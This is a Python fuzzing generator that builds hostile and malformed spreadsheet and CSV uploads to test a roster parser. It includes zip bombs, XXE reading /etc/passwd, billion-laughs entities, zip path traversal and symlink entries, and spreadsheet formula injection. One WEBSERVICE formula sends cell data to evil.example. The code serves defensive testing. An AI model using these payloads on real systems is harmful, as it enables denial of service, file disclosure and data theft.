"""What strangers send instead of a roster, and rosters with things in them that must not go further.

A family makes one file of a seed. `REFUSED` says that no table may come of it; every other family may be read or not, but
what is read is small, is text, and is a number where it is one.
"""

import csv
import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from functools import cache
from random import Random

import openpyxl
import xlwt
from hostile.pictures.making import unfolding

HEADER = ["姓名", "身份证号", "入党时间", "所在支部"]
PERSON = ["石红旗", "999999195101020133", "1971-05-20", "锦绣社区第一党支部"]
SHEET = "xl/worksheets/sheet1.xml"
MAIN = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
ODD_TEXTS = [
    "=1+1", '=HYPERLINK("http://evil.example","x")', "@SUM(A1)", "+cmd|' /C calc'!A0", "-1", "<script>zq7x</script>",
    "\u202e旗红石", "石\u200b红旗", "ﬁ", "𠮷" * 40, "石" * 5000, "9" * 5000, "１２３", "²", "1e309", "NaN", "-0", "0x10",
    "1971-02-30", "0001-01-01", "9999-12-31", "99999999999999999999", "_x0000_", "_xD800_", "a\r\nb", "\t", "' OR 1=1 --",
]  # fmt: skip


@dataclass(frozen=True)
class Family:
    name: str
    make: Callable[[Random], bytes]
    refused: bool


FAMILIES: list[Family] = []


def family(*, refused: bool):
    def listed(make: Callable[[Random], bytes]) -> Callable[[Random], bytes]:
        FAMILIES.append(Family(make.__name__, make, refused))
        return make

    return listed


def saved(book) -> bytes:
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


@cache
def plain() -> bytes:
    book = openpyxl.Workbook()
    for row in (HEADER, PERSON):
        book.active.append(row)
    return saved(book)


def with_parts(parts: dict[str, bytes], *, of: bytes | None = None) -> bytes:
    """The plain workbook with parts added or replaced."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(of or plain())) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for entry in old.infolist():
            if entry.filename not in parts:
                new.writestr(entry.filename, old.read(entry.filename))
        for name, content in parts.items():
            new.writestr(name, content)
    return out.getvalue()


def sheet(rows: str, *, before: str = "") -> bytes:
    return f'<?xml version="1.0" encoding="UTF-8"?>{before}<worksheet {MAIN}><sheetData>{rows}</sheetData></worksheet>'.encode()


def cell(place: str, text: str) -> str:
    return f'<c r="{place}" t="inlineStr"><is><t>{text}</t></is></c>'


HEAD = "".join(cell(f"{column}1", name) for column, name in zip("ABCD", HEADER, strict=True))
HEAD_ROW = f'<row r="1">{HEAD}</row>'


def stored_deflated(name: str, deflated: bytes, size: int, *, says: int | None = None) -> bytes:
    """A zip of one part whose deflated bytes are given, so that a bomb costs nothing to make; its size may lie."""
    raw, check, said = deflated[2:-4], 0, size if says is None else says
    local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0, check, len(raw), said, len(name), 0) + name.encode()
    central = (
        struct.pack(
            "<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0, check, len(raw), said, len(name), 0, 0, 0, 0, 0, 0
        )
        + name.encode()
    )
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 1, 1, len(central), len(local) + len(raw), 0)
    return local + raw + central + end


# Bombs.


@family(refused=True)
def bomb_of_one_part(random: Random) -> bytes:
    return stored_deflated(SHEET, unfolding(500), 500 * 2**20)


@family(refused=True)
def bomb_that_lies_about_its_size(random: Random) -> bytes:
    return stored_deflated(SHEET, unfolding(500), 0, says=random.choice([0, 100, 2**32 - 1]))


@family(refused=True)
def bomb_of_many_parts(random: Random) -> bytes:
    return with_parts({f"xl/media/{number}.bin": bytes(900_000) for number in range(80)})


@family(refused=True)
def thousands_of_parts(random: Random) -> bytes:
    return with_parts({f"xl/{number}.xml": b"<a/>" for number in range(random.randint(201, 3000))})


@family(refused=True)
def zip_in_a_zip_in_a_zip(random: Random) -> bytes:
    content = bytes(random.randint(1, 10_000))
    for _ in range(12):
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w") as archive:
            archive.writestr("inner.xlsx", content)
        content = out.getvalue()
    return content


@family(refused=True)
def one_part_read_a_thousand_times(random: Random) -> bytes:
    """Overlapping entries: one deflated part that every line of the directory points to."""
    once = stored_deflated(SHEET, unfolding(1), 2**20)
    begin = once.index(b"PK\x01\x02")
    central, count = once[begin:-22], 1000
    return (
        once[:begin]
        + central * count
        + struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count, len(central) * count, begin, 0)
    )


@family(refused=True)
def a_million_rows(random: Random) -> bytes:
    row = '<row r="{0}"><c r="A{0}"><v>1</v></c></row>'
    rows = "".join(row.format(number) for number in (2, 1_048_576))
    return with_parts({SHEET: sheet(HEAD_ROW + rows)})


@family(refused=True)
def a_million_real_rows(random: Random) -> bytes:
    return with_parts({SHEET: million_rows()})


@cache
def million_rows() -> bytes:
    return sheet(HEAD_ROW + "".join(f'<row r="{n}"><c r="A{n}"><v>1</v></c></row>' for n in range(2, 201_000)))


@family(refused=True)
def sixteen_thousand_columns(random: Random) -> bytes:
    return with_parts({SHEET: sheet(HEAD_ROW + '<row r="2"><c r="XFD2"><v>1</v></c></row>')})


@family(refused=True)
def many_rows_of_many_columns(random: Random) -> bytes:
    return with_parts({SHEET: sheet(HEAD_ROW + '<row r="199999"><c r="IU199999"><v>1</v></c></row>')})


@family(refused=True)
def one_text_in_thousands_of_cells(random: Random) -> bytes:
    text = random.choice("石红旗") * 2000
    strings = f"<sst {MAIN}><si><t>{text}</t></si></sst>".encode()
    rows = "".join(f'<row r="{n}"><c r="A{n}" t="s"><v>0</v></c></row>' for n in range(2, 9_000))
    return with_parts({"xl/sharedStrings.xml": strings, SHEET: sheet(HEAD_ROW + rows)})


@family(refused=False)
def tags_that_never_close(random: Random) -> bytes:
    return with_parts({SHEET: b"<worksheet>" + random.choice([b"<c ", b'<c r="A1" ', b"<x:", b'<c r="']) * 100_000})


@family(refused=False)
def attributes_without_end(random: Random) -> bytes:
    return with_parts({SHEET: b"<worksheet><c " + b'r="A1" ' * 100_000})


@family(refused=False)
def a_format_of_brackets(random: Random) -> bytes:
    code = random.choice(["[", "&quot;", "_", "\\"]) * 300_000
    formats = (
        f'<styleSheet {MAIN}><numFmts count="1"><numFmt numFmtId="200" formatCode="{code}"/></numFmts></styleSheet>'
    )
    return with_parts({"xl/styles.xml": formats.encode()})


# What XML can do.


@family(refused=True)
def entity_from_a_file(random: Random) -> bytes:
    before = '<!DOCTYPE w [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
    return with_parts({SHEET: sheet(f'{HEAD_ROW}<row r="2">{cell("A2", "&a;")}</row>', before=before)})


@family(refused=True)
def entities_of_entities(random: Random) -> bytes:
    laughs = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 12))
    before = f'<!DOCTYPE w [<!ENTITY a0 "ha">{laughs}]>'
    where = random.choice([SHEET, "xl/sharedStrings.xml", "xl/styles.xml", "docProps/core.xml", "[Content_Types].xml"])
    return with_parts({where: sheet(cell("A1", "&a11;"), before=before)})


@family(refused=True)
def entity_from_the_network(random: Random) -> bytes:
    before = '<!DOCTYPE w PUBLIC "x" "http://evil.example/x.dtd">'
    return with_parts({"xl/workbook.xml": f'<?xml version="1.0"?>{before}<workbook/>'.encode()})


@family(refused=True)
def document_type_in_another_encoding(random: Random) -> bytes:
    text = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE w [<!ENTITY a "b">]><worksheet>&a;</worksheet>'
    return with_parts({SHEET: text.encode("utf-16")})


@family(refused=False)
def elements_nested_deeply(random: Random) -> bytes:
    return with_parts({SHEET: b"<worksheet>" + b"<a>" * 200_000})


@family(refused=False)
def entity_that_nobody_declared(random: Random) -> bytes:
    return with_parts({SHEET: sheet(f'{HEAD_ROW}<row r="2">{cell("A2", "&nobody;&#0;&#xD800;&#x202e;")}</row>')})


@family(refused=False)
def cells_without_a_place(random: Random) -> bytes:
    rows = '<row r="20000">' + "<c><v>1</v></c>" * random.randint(1, 100) + "</row>"
    return with_parts({SHEET: sheet(HEAD_ROW + rows)})


# What a workbook can hold beside its cells.


@family(refused=True)
def link_to_another_workbook(random: Random) -> bytes:
    return with_parts({random.choice(["xl/externalLinks/externalLink1.xml", "xl/ExternalLinks/a.xml"]): b"<a/>"})


@family(refused=True)
def macro(random: Random) -> bytes:
    return with_parts({random.choice(["xl/vbaProject.bin", "XL/VBAPROJECT.BIN", "xl/macrosheets/sheet1.xml"]): b"<a/>"})


@family(refused=True)
def path_upwards(random: Random) -> bytes:
    return with_parts({random.choice(["../evil.xml", "/etc/evil.xml", "xl/../../evil.xml", "..\\evil.xml"]): b"<a/>"})


@family(refused=True)
def link_of_the_file_system(random: Random) -> bytes:
    entry = zipfile.ZipInfo("xl/link.xml")
    entry.external_attr = 0o120777 << 16
    out = io.BytesIO(plain())
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr(entry, "/etc/passwd")
    return out.getvalue()


@family(refused=True)
def entry_with_a_password(random: Random) -> bytes:
    content = bytearray(plain())
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = content.index(mark) + offset
        content[place] |= 1
    return bytes(content)


@family(refused=True)
def workbook_with_a_password(random: Random) -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + random.randbytes(600) + "EncryptedPackage".encode("utf-16-le")


@family(refused=True)
def old_workbook_with_a_macro(random: Random) -> bytes:
    return old([HEADER, PERSON]) + "_VBA_PROJECT".encode("utf-16-le")


@family(refused=False)
def formulas_everywhere(random: Random) -> bytes:
    book = openpyxl.Workbook()
    book.active.append(HEADER)
    book.active.append([random.choice(ODD_TEXTS) for _ in HEADER])
    book.active.append(['=WEBSERVICE("http://evil.example/"&A2)', "=1/0", "=NOW()", "=A1:D9"])
    return saved(book)


# Wrong, cut and mangled.


@family(refused=True)
def another_format(random: Random) -> bytes:
    heads = [
        b"%PDF-1.7",
        b"\xff\xd8\xff\xe0",
        b"\x89PNG\r\n\x1a\n",
        b"Rar!\x1a",
        b"7z\xbc\xaf",
        b"\x7fELF\0\0",
        b"PK\x03\x04",
    ]
    return random.choice(heads) + random.randbytes(300) + b"\0"


@family(refused=True)
def web_page(random: Random) -> bytes:
    return (
        random.choice(["<html>", "\n <!DOCTYPE html>", "<?xml version='1.0'?>", "<table>", "\ufeff<meta>"]).encode()
        + b"x"
    )


@family(refused=True)
def nothing(random: Random) -> bytes:
    return random.choice([b"", b" ", b"\r\n" * 50, b"\t"])


@family(refused=False)
def workbook_cut_off(random: Random) -> bytes:
    content = plain()
    return content[: random.randrange(4, len(content))]


@family(refused=False)
def workbook_with_bytes_turned(random: Random) -> bytes:
    return turned(plain(), random)


@family(refused=False)
def old_workbook_cut_off(random: Random) -> bytes:
    content = old([HEADER, PERSON])
    return content[: random.randrange(8, len(content))]


@family(refused=False)
def old_workbook_with_bytes_turned(random: Random) -> bytes:
    return turned(old([HEADER, PERSON]), random)


@family(refused=False)
def part_with_bytes_turned(random: Random) -> bytes:
    with zipfile.ZipFile(io.BytesIO(plain())) as archive:
        name = random.choice([one for one in archive.namelist() if one.endswith((".xml", ".rels"))])
        return with_parts({name: turned(archive.read(name), random)})


@family(refused=False)
def workbook_without_a_part(random: Random) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(plain())) as old_book, zipfile.ZipFile(out, "w") as new:
        gone = random.choice(old_book.namelist())
        for name in old_book.namelist():
            if name != gone:
                new.writestr(name, old_book.read(name))
    return out.getvalue()


def turned(content: bytes, random: Random) -> bytes:
    changed = bytearray(content)
    for _ in range(random.randint(1, 12)):
        changed[random.randrange(4, len(changed))] = random.randrange(256)
    return bytes(changed)


def old(rows: list[list[object]]) -> bytes:
    book = xlwt.Workbook(encoding="utf-8")
    made = book.add_sheet("党员")
    for number, row in enumerate(rows):
        for column, value in enumerate(row):
            made.write(number, column, value)
    return saved(book)


# Text files.


def text(rows: list[list[str]], delimiter: str = ",") -> str:
    out = io.StringIO(newline="")
    csv.writer(out, delimiter=delimiter).writerows(rows)
    return out.getvalue()


@family(refused=False)
def text_in_an_odd_encoding(random: Random) -> bytes:
    coding = random.choice(
        ["utf-16", "utf-16-le", "utf-16-be", "utf-32", "big5", "shift_jis", "gb18030", "utf-7", "hz"]
    )
    return text([HEADER, PERSON]).encode(coding, errors="replace")


@family(refused=False)
def text_with_odd_cells(random: Random) -> bytes:
    rows = [[random.choice(ODD_TEXTS) for _ in HEADER] for _ in range(20)]
    return text([HEADER, *rows], random.choice(",;\t")).encode(
        random.choice(["utf-8", "utf-8-sig", "utf-16", "gb18030"])
    )


@family(refused=False)
def text_with_controls_in_it(random: Random) -> bytes:
    rows = [
        [one[0] + chr(random.choice([*range(32), 127, 133, 0x2028, 0xFEFF])) + one[1:] for one in PERSON]
        for _ in range(9)
    ]
    return text([HEADER, *rows]).encode("utf-16")


@family(refused=True)
def text_of_a_million_commas(random: Random) -> bytes:
    return b"a" + random.choice([b",", b"\n", b",,,\n", b'"",']) * 2_000_000


@family(refused=False)
def text_with_quotes_left_open(random: Random) -> bytes:
    return text([HEADER, PERSON]).encode() + b'"' * random.randint(1, 99) + b"x" * random.choice([1, 200_000])


@family(refused=False)
def anything_mutated(random: Random) -> bytes:
    """Any other file up to a size, with pieces cut out, doubled and turned."""
    content = random.choice([one for one in FAMILIES if one.make is not anything_mutated]).make(random)[:100_000]
    begin, end = sorted(random.randrange(len(content) + 1) for _ in range(2))
    changed = random.choice([content[:begin] + content[end:], content[:end] + content[begin:], content])
    return turned(changed, random) if len(changed) > 8 else changed


@family(refused=True)
def archive_with_a_wrong_sum(random: Random) -> bytes:
    return with_parts({SHEET: zlib.compress(bytes(100))})
